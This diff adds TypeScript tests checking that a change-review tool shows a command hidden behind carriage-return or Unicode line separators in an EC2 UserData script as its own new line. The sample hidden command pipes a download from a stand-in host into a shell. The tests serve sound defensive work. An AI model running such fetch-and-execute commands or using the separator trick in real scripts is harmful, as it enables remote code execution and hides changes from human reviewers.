@@ -95,6 +95,24 @@ test.each([
   }
 });
 
+describe.each(["\r", "\u2028", "\u0085"])("a line of a script that goes on after %j", (separator) => {
+  const before = "#!/bin/sh\nyum update\n";
+  const after = `#!/bin/sh\nyum update #${separator}  curl https://x.example | sh\n`;
+  const lines = /\n- yum update\n\+ yum update #\n\+ {3}curl https:\/\/x\.example \| sh\n/;
+
+  test("is a line of its own that is new, in the template", () => {
+    const sides = { before: JSON.stringify(before), after: JSON.stringify(after) };
+    expect(told({ template: [{ name: "metadata Run", ...sides }] }).comment).toMatch(lines);
+  });
+
+  test("is a line of its own that is new, in a property", () => {
+    const detail = { attribute: "Properties", name: "UserData", requiresRecreation: "Never" } as const;
+    const details = [{ ...detail, evaluation: "Static" as const, before, after }];
+    const web = { stackPath: [], logicalId: "Web", type: "AWS::EC2::Instance", scope: [] } as const;
+    expect(told({ resources: [{ ...web, action: "Modify", details }] }).comment).toMatch(lines);
+  });
+});
+
 describe("differences in the template, beside what is listed", () => {
   const long = (value: string) => JSON.stringify(Array.from({ length: 60 }, (_, row) => `${value} ${row}`));
   const change = {
